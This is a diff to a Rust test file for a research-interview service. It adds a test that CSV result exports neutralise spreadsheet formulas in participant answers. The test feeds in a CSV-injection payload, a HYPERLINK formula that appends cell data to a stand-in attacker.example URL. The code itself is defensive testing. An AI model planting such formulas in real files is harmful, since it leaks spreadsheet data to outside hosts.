@@ -11,6 +11,11 @@ const AWKWARD: &str =
 
 /// Creates a demo session (a preview one with the researcher token) and runs it to the end.
 async fn interview(app: &TestApp, preview: bool, consent: bool) -> String {
+    interview_saying(app, preview, consent, AWKWARD).await
+}
+
+/// The same, the participant giving `answer` to every open question.
+async fn interview_saying(app: &TestApp, preview: bool, consent: bool, answer: &str) -> String {
     let res = app
         .post(
             "/api/public/studies/demo/sessions",
@@ -42,7 +47,7 @@ async fn interview(app: &TestApp, preview: bool, consent: bool) -> String {
             let reply = if s["current_phase"] == "SUMMARY_CONFIRMATION" {
                 "yes"
             } else {
-                AWKWARD
+                answer
             };
             assert_eq!(
                 app.post_message(&session, &token, reply).await.status(),
@@ -426,7 +431,58 @@ async fn a_bulk_rebuild_reproduces_the_live_views(store: Store) {
     assert_eq!(all_views(&app).await, live);
 }
 
+/// A participant's answer that a spreadsheet would run as a formula is text in every CSV cell it
+/// reaches (value and quote), and stays exactly as said in JSON Lines.
+async fn formulas_in_answers_are_plain_text_in_csv(store: Store) {
+    let app = TestApp::spawn(store).await;
+    let study_id = json_of(app.get("/api/studies", Some(RESEARCHER_TOKEN)).await).await["studies"]
+        [0]["study_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open the weekly plan\")";
+    interview_saying(&app, false, true, formula).await;
+    let csv = app
+        .get(
+            &format!("/api/studies/{study_id}/results.csv"),
+            Some(RESEARCHER_TOKEN),
+        )
+        .await
+        .text()
+        .await
+        .unwrap();
+    let table = parse_csv(&csv);
+    let col = |name: &str| table[0].iter().position(|c| c == name).unwrap();
+    for column in ["planning_method", "planning_method__quote"] {
+        let cell = &table[1][col(column)];
+        assert!(cell.starts_with("'="), "{column}: {cell}");
+    }
+    for row in &table[1..] {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula: {cell}"
+            );
+        }
+    }
+    let jsonl = app
+        .get(
+            &format!("/api/studies/{study_id}/results.jsonl"),
+            Some(RESEARCHER_TOKEN),
+        )
+        .await
+        .text()
+        .await
+        .unwrap();
+    let row: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert!(row["fields"]["planning_method"]["value"]
+        .as_str()
+        .unwrap()
+        .starts_with("=HYPERLINK"));
+}
+
 both_stores!(
+    formulas_in_answers_are_plain_text_in_csv,
     a_bulk_rebuild_reproduces_the_live_views,
     results_and_exports_hold_completed_sessions_only,
     session_read_apis_serve_researchers_only,
